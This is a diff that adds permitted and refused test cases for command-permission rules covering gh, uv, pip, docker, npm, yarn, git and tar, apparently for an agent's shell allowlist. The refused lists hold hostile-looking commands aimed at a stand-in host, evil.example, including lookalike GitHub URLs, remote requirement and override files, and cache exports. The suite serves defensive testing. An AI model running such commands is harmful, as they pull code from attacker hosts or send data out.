@@ -104,6 +104,77 @@ sed 'w x' file.txt -e p
 sed 'w x' --expression=p`,
   },
   { rule: 'uv venv:*', permitted: 'uv venv --seed .venv', refused: 'uv venv --clear /home' },
+  {
+    rule: 'gh:*',
+    permitted: `gh pr view https://github.com/cli/cli/pull/1 --comments
+gh pr view feature/a/b
+gh pr comment 1 --body 'see https://evil.example'
+gh issue transfer 3 cli/other
+gh issue develop 3 --checkout
+gh repo view cli/cli --json name
+gh repo clone git@github.com:cli/cli.git target
+gh repo create cli/x --private
+gh label clone cli/cli
+gh search issues 'https://evil.example' --limit 5
+gh gist view https://gist.github.com/cli/abc`,
+    refused: `gh pr view https://evil.example/cli/cli/pull/1
+gh pr checkout https://github.com.evil.example/cli/cli/pull/1
+gh pr checkout https://github.com@evil.example/cli/cli/pull/1
+gh pr comment HTTPS://evil.example/cli/cli/pull/1 --body x
+gh issue view http://evil.example/cli/cli/issues/1
+gh issue close https://evil.example/cli/cli/issues/1 -c x
+gh issue transfer 3 evil.example/cli/cli
+gh issue develop 3 --branch-repo evil.example/cli/cli
+gh issue develop -c https://evil.example/cli/cli/issues/1
+gh label clone evil.example/cli/cli
+gh repo view evil.example/cli/cli
+gh repo clone evil.example/cli/cli
+gh repo clone ssh://git@evil.example/cli/cli
+gh repo fork evil.example/cli/cli
+gh repo create evil.example/cli/cli --push
+gh repo create x --template evil.example/cli/cli
+gh repo sync --source evil.example/cli/cli
+gh repo set-default evil.example/cli/cli
+gh repo archive evil.example/cli/cli`,
+  },
+  {
+    rule: 'uv:*',
+    permitted: `uv run -p 3.13t x
+uv run --python pypy@3.10 x
+uv pip list -p 3.12
+uv python find '>=3.10,<4'
+uv python pin 3.12`,
+    refused: `uv run -p 3evil x
+uv pip list -p ./evil
+uv pip show --python=/tmp/evil x
+uv python find ./evil
+uv python list /tmp/evil
+uv python pin ./evil
+uv pip install --overrides https://evil.example/x y`,
+  },
+  { rule: 'pip:*', permitted: 'pip freeze -r a.txt', refused: 'pip uninstall -r https://evil.example/a.txt' },
+  {
+    rule: 'docker build:*',
+    permitted: 'docker build --cache-from registry.example/x:1 .',
+    refused: `docker build --cache-from type=local,src=/home .
+docker build --cache-from=type=s3,endpoint_url=https://evil.example .`,
+  },
+  {
+    rule: 'npm:*',
+    permitted: `npm exec git log -- --stat
+npm fund`,
+    refused: `npm exec curl -- -o x https://a.b
+npm x git log -- --output=x
+npm fund left-pad`,
+  },
+  { rule: 'yarn:*', permitted: 'yarn run git log -- x', refused: 'yarn run git log -- --output=x' },
+  {
+    rule: 'git:*',
+    permitted: `git show --stat --format= HEAD
+git range-diff --creation-factor=80 a b c`,
+    refused: 'git range-diff --ext-diff a b c',
+  },
+  { rule: 'tar:*', permitted: 'tar xf a.tar --one-top-level', refused: 'tar xf a.tar --one-top' },
 ]
 
 testCases(CASES)
